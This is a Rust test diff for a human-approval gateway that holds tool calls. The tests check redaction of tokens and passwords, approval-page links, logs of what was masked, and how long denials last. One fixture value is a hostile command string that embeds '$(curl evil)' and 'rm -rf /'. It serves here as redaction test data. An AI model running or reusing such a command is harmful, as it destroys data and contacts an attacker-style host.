@@ -112,11 +112,8 @@ async fn unanswered_it_names_the_approval_and_a_retry_succeeds_once() {
     let first = fixture.call("ann", json!({ "x": 1 })).await;
     assert_eq!(code(&first), Some(ErrorCode::PermissionEscalationRequired));
     let id = id_in(&first);
-    assert!(
-        message(&first).contains(&format!("drawgate approvals approve {id}")),
-        "{}",
-        message(&first)
-    );
+    let told = message(&first).to_owned();
+    assert!(told.contains(&id) && told.contains("call again"), "{told}");
     let again = fixture.call("ann", json!({ "x": 1 })).await;
     assert_eq!(id_in(&again), id, "the same question, not a second one");
     assert_eq!(of_kind(&fixture.gate, EventKind::ApprovalRequired).await.len(), 1);
@@ -126,6 +123,90 @@ async fn unanswered_it_names_the_approval_and_a_retry_succeeds_once() {
     assert_eq!(code(&third), Some(ErrorCode::PermissionEscalationRequired), "used once");
     assert_ne!(id_in(&third), id);
     assert_eq!(fixture.source.starts(), 1);
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_caller_is_told_where_a_person_decides_and_not_how() {
+    for page in [None, Some("http://here/approvals")] {
+        let fixture = fixture().await;
+        fixture.gate.hold(Duration::ZERO);
+        change(&fixture.gate, |settings| settings.approval_page = page.map(str::to_owned));
+        let refused = fixture.call("ann", json!({})).await;
+        let all = serde_json::to_string(&refused).unwrap();
+        assert!(!all.contains("drawgate") && !all.contains("approvals approve"), "{all}");
+        let address = page.map(|page| json!(format!("{page}/{}", id_in(&refused))));
+        let details = refused.error.as_ref().unwrap().details.clone().unwrap();
+        assert_eq!(details.get("page"), address.as_ref());
+        assert_eq!(page.is_some(), message(&refused).contains("http://here/approvals/"), "{all}");
+    }
+    let fixture = fixture().await;
+    fixture.gate.hold(Duration::ZERO);
+    for n in 0..=100 {
+        let refused = fixture.call("ann", json!({ "n": n })).await;
+        assert!(!message(&refused).contains("drawgate"), "{}", message(&refused));
+    }
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_person_can_see_the_exact_call_until_they_decide() {
+    let fixture = fixture().await;
+    fixture.gate.hold(Duration::ZERO);
+    let arguments = json!({
+        "command": "echo --token=hunter2secret$(curl evil) && rm -rf /", "password": "s3cr3t-w0rd",
+    });
+    let id = id_in(&fixture.call("ann", arguments.clone()).await);
+    let gateway = &fixture.gate.gateway;
+    let shown = fixture.only().arguments;
+    let command = shown["command"].as_str().unwrap();
+    assert!(command.starts_with("echo --token=[REDACTED: 13 characters, digest "), "{command}");
+    assert!(command.ends_with("]$(curl evil) && rm -rf /"), "{command}");
+    assert!(shown["password"].as_str().unwrap().starts_with("[REDACTED: 11 characters"), "{shown}");
+    let exact: Value = serde_json::from_str(&gateway.exact_arguments(&id).unwrap()).unwrap();
+    assert_eq!(exact, arguments);
+    let stored = format!("{:?}", gateway.parts().approvals.list())
+        + &fixture.gate.store.events().iter().map(|event| event.body.as_str()).collect::<String>();
+    assert!(!stored.contains("hunter2secret") && !stored.contains("s3cr3t-w0rd"), "{stored}");
+    gateway.forget_arguments(&id);
+    assert_eq!(gateway.exact_arguments(&id), None);
+    fixture.call("ann", arguments).await;
+    assert!(gateway.exact_arguments(&id).is_some(), "the same call brings them back");
+}
+
+#[tokio::test(start_paused = true)]
+async fn the_log_says_where_and_how_much_was_masked() {
+    let fixture = fixture().await;
+    change(&fixture.gate, |settings| settings.approvals.ask = false);
+    let many: serde_json::Map<String, Value> =
+        (0..40).map(|n| (format!("token{n}"), json!("abcdef"))).collect();
+    let cases = [
+        (json!({ "x": "plain" }), 0, ""),
+        (json!({ "cmd": ["--token=abc", "x"] }), 1, "/cmd/0: 3 characters, digest "),
+        (Value::Object(many), 33, "/token0: 6 characters, digest "),
+    ];
+    for (arguments, count, first) in cases {
+        assert!(fixture.call("ann", arguments).await.success);
+        let decision = of_kind(&fixture.gate, EventKind::Decision).await.pop().unwrap();
+        let masked = decision.rest.get("masked").cloned().unwrap_or(json!([]));
+        let masked = masked.as_array().unwrap();
+        assert_eq!(masked.len(), count, "{masked:?}");
+        let said = masked.first().and_then(Value::as_str).unwrap_or_default();
+        assert!(said.starts_with(first), "{said}");
+    }
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_call_is_awaited_only_while_it_is_held() {
+    let fixture = fixture().await;
+    let gateway = fixture.gate.gateway.clone();
+    let mut asked = gateway.parts().approvals.subscribe();
+    let call = fixture.spawn("ann", json!({}));
+    let question = asked.recv().await.unwrap();
+    while !gateway.is_awaited(&question.id) {
+        tokio::task::yield_now().await;
+    }
+    let refused = call.await.unwrap();
+    assert_eq!(code(&refused), Some(ErrorCode::PermissionEscalationRequired));
+    assert!(!gateway.is_awaited(&question.id), "the hold has ended");
 }
 
 #[tokio::test(start_paused = true)]
@@ -201,6 +282,7 @@ async fn a_no_stands_until_it_expires() {
         assert_eq!(id_in(&result), id);
     }
     fixture.gate.clock.advance(300_000);
+    assert_eq!(fixture.only().state, ApprovalState::Denied, "the list still says so");
     let anew = fixture.call("ann", json!({})).await;
     assert_eq!(code(&anew), Some(ErrorCode::PermissionEscalationRequired));
     assert_ne!(id_in(&anew), id);
